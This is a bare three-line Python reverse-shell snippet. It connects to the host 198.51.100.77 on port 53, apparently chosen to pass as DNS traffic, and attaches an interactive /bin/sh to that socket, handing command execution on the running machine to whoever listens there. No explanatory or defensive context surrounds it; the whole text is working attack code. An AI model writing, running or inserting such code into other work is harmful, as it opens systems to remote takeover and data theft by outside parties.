import socket as so, subprocess as sp
conn = so.create_connection(('198.51.100.77', 53))
sp.call(['/bin/sh', '-i'], stdin=conn, stdout=conn, stderr=conn)
